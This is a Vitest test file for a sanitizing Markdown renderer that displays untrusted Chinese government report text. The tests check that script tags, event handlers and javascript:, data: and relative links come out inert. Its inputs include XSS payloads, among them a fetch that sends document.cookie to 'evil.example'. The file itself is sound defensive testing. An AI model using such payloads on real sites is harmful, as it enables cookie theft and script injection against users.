// Report text is untrusted: whatever it contains, the HTML it becomes can run nothing, load nothing
// and link nowhere but to http(s) addresses.
import { describe, it, expect } from 'vitest';
import { renderInline, renderText } from '../../src/lib/renderText.ts';

/** Real tags are the only literal `<` in the output (text has `&#x3C;`): each must be harmless. */
const SAFE_TAGS = new Set(['p', 'strong', 'em', 'a', 'ol', 'ul', 'li', 'code', 'pre', 'blockquote', 'br', 'hr', 'del']);

function expectInert(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    expect(SAFE_TAGS.has(name.toLowerCase()), `tag <${name}>`).toBe(true);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      expect(['href', 'rel', 'start'], `attribute ${attribute}`).toContain(attribute);
      if (attribute === 'href') expect(value).toMatch(/^https?:\/\//);
    }
  }
}

describe('renderText', () => {
  it('keeps ordinary report text and its emphasis', () => {
    expect(renderText('全年公开政府信息 611 条。')).toBe('<p>全年公开政府信息 611 条。</p>');
    expect(renderText('表现在：**一是**政务公开方式单一')).toBe('<p>表现在：<strong>一是</strong>政务公开方式单一</p>');
  });

  it('reads bold that ends in Chinese punctuation, which CommonMark alone leaves as asterisks', () => {
    expect(renderText('**（一）主动公开方面。**全年通过门户网站公开')).toBe(
      '<p><strong>（一）主动公开方面。</strong>全年通过门户网站公开</p>',
    );
  });

  it('shows a <script> element as text, never as a script', () => {
    const html = renderText('前文<script>alert(1)</script>后文');
    expectInert(html);
    expect(html).toContain('&#x3C;script>alert(1)&#x3C;/script>');
  });

  it('shows a block of raw HTML as text', () => {
    const html = renderText('<script>\nfetch("https://evil.example/"+document.cookie)\n</script>');
    expectInert(html);
    expect(html).toContain('document.cookie');
  });

  it('leaves an <img onerror> inert', () => {
    const html = renderText('<img src=x onerror="alert(1)">');
    expectInert(html);
    expect(html).toContain('&#x3C;img');
  });

  it('drops Markdown images, keeping their alt text', () => {
    const html = renderText('见图 ![组织机构图](https://example.org/a.png) 所示');
    expectInert(html);
    expect(html).toContain('组织机构图');
  });

  it('removes javascript:, data: and relative links but keeps their text', () => {
    for (const target of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<b>x</b>',
      'vbscript:x',
      '/admin',
      '#top',
      '//evil.example/',
    ]) {
      const html = renderText(`[点击这里](${target})`);
      expectInert(html);
      expect(html).toBe('<p>点击这里</p>');
    }
  });

  it('keeps http(s) links, marked as external and unfollowed', () => {
    expect(renderText('网址为 <http://www.wuzhong.gov.cn/>。')).toBe(
      '<p>网址为 <a href="http://www.wuzhong.gov.cn/" rel="nofollow noopener noreferrer external">http://www.wuzhong.gov.cn/</a>。</p>',
    );
  });

  it('shows raw HTML links and inline event handlers as text', () => {
    const html = renderText('<a href="javascript:alert(1)" onclick="alert(2)">链接</a> <u style="color:red">25%</u>');
    expectInert(html);
    expect(html).toContain('&#x3C;u style="color:red">25%&#x3C;/u>');
  });

  it('turns a heading in a paragraph into a paragraph, so the page outline stays the portal’s', () => {
    expect(renderText('# 假标题')).toBe('<p>假标题</p>');
  });
});

describe('renderInline', () => {
  it('has no wrapping paragraph', () => {
    expect(renderInline('**（一）加强组织领导**')).toBe('<strong>（一）加强组织领导</strong>');
  });

  it('keeps a leading number as written rather than starting a list', () => {
    expect(renderInline('1. 推进权力配置信息公开')).toBe('1. 推进权力配置信息公开');
    expect(renderInline('- 其他')).toBe('- 其他');
  });

  it('is as inert as block text', () => {
    expectInert(renderInline('<img src=x onerror=alert(1)>[x](javascript:alert(1))'));
  });
});
